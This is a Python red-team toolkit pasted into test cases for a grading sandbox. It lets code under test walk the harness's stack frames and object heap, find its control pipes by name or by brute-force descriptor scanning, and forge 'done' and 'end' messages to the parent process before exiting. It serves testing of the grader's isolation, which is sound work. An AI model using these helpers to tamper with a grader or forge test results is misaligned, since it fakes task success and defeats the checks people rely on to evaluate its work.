# ---- red-team toolkit, pasted into every case: what any student code can reach in the child ----
# Student code shares the child's process with the grader's harness, so it can walk the
# harness's frames and objects (the request, the probe being run, the control descriptor) and
# write whatever the harness could write. Every helper falls back to a blunter method when the
# harness's names change, so the cases keep attacking after a rewrite of the protocol.
import ctypes as _ctypes
import fcntl as _fcntl
import gc as _gc
import os as _os
import stat as _stat
import sys as _sys

_LIBC = _ctypes.CDLL(None, use_errno=True)
_LIBC.syscall.restype = _ctypes.c_long


def _frames():
    frame = _sys._getframe(1)
    while frame is not None:
        yield frame
        frame = frame.f_back


def harness_local(name, kind=None):
    """The nearest local called ``name`` in the frames that called the student's code."""
    for frame in _frames():
        if frame.f_code.co_filename == __file__:
            continue  # the student's own module: its globals are not the harness's
        if name in frame.f_locals:
            found = frame.f_locals[name]
            if kind is None or isinstance(found, kind):
                return found
    return None


def harness_request():
    """The request the harness is serving (from its frames, else from the garbage collector)."""
    found = harness_local("request")
    if found is not None and hasattr(found, "probes"):
        return found
    for obj in _gc.get_objects():
        if type(obj).__name__ == "ChildRequest":
            return obj
    return None


def probe_ids():
    req = harness_request()
    return [p.id for p in getattr(req, "probes", [])]


def current_probe_id():
    running = harness_local("probe")
    return getattr(running, "id", None)


def reply_dir():
    """The folder the harness writes replies to, when the protocol still has one."""
    return getattr(harness_request(), "reply_dir", None)


def writable_pipes(low=3):
    """Every descriptor that is a pipe this process may write (the blunt way to find the control pipe)."""
    found = []
    for fd in range(low, 1024):
        try:
            mode = _os.fstat(fd).st_mode
            access = _fcntl.fcntl(fd, _fcntl.F_GETFL) & _os.O_ACCMODE
        except OSError:
            continue
        if _stat.S_ISFIFO(mode) and access in (_os.O_WRONLY, _os.O_RDWR):
            found.append(fd)
    return found


def control_fds():
    """The harness's channel to the parent: by its local's name (either protocol), else every writable pipe."""
    for name in ("channel_fd", "control_fd"):
        fd = harness_local(name, int)
        if fd is not None:
            return [fd]
    return writable_pipes()


def send_frame(kind, payload, blob=b""):
    """Write one reply frame with the harness's own writer (the framed protocol), where there is one."""
    try:
        from grader.sandbox.channel import send as _send_frame
    except ImportError:
        return []
    sent = []
    for fd in control_fds():
        try:
            _send_frame(fd, kind, payload, blob)
            sent.append(fd)
        except OSError:
            pass
    return sent


def send(line):
    """Write one control line, as the harness would."""
    data = (line + "\n").encode()
    sent = []
    for fd in control_fds():
        try:
            _os.write(fd, data)
            sent.append(fd)
        except OSError:
            pass
    return sent


def log(text):
    """A line on the child's output pipe, kept in the result's output: what the attack managed."""
    try:
        _os.write(2, ("[redteam] " + str(text) + "\n").encode(errors="replace"))
    except OSError:
        pass


def forge_done_and_leave():
    """Tell the parent the running probe is done and the child has ended, then vanish."""
    pid = current_probe_id()
    send(f"done {pid}")
    send("end")
    _os._exit(0)
# ---- end of the toolkit ----
